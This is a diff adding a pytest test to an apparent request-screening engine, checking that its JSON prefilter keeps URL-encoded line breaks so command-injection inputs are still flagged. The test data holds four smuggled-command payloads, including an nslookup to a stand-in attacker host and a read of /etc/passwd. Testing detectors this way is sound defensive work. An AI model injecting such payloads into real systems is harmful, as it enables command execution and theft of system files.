@@ -1447,6 +1447,24 @@ def test_batch_prefilter_never_hides_a_detection(engine: DetectionEngine) -> Non
     assert checked > 400
 
 
+@pytest.mark.parametrize(
+    "payload",
+    ["%0Anslookup${IFS}attacker.example", "x%0acat${IFS}/etc/passwd", "a%0D%0Aid", "%0a$(id)"],
+)
+def test_json_prefilter_keeps_a_decoded_break_before_a_command(
+    engine: DetectionEngine, payload: str
+) -> None:
+    """A decoded break (``%0A``) is the separator a later view's rule needs before the line it
+    starts: the body's strings, read line by line, must not lose it (the heldout line that
+    only the model used to send to value-by-value screening)."""
+    from guard.request_parts import json_strings
+
+    assert engine.screen(payload, "json", semantic=False)["is_threat"]  # type: ignore[index]
+    document = {"order": {"note": payload}}
+    body = json.dumps(document)
+    assert not engine.strings_are_clean(json_strings(document, body), semantic=False)
+
+
 def test_json_prefilter_never_clears_what_the_model_flags(engine: DetectionEngine) -> None:
     """With the model on, a body whose string the model (or a rule) flags is never cleared
     whole, compact or pretty-printed, the first time or the second (when the other strings
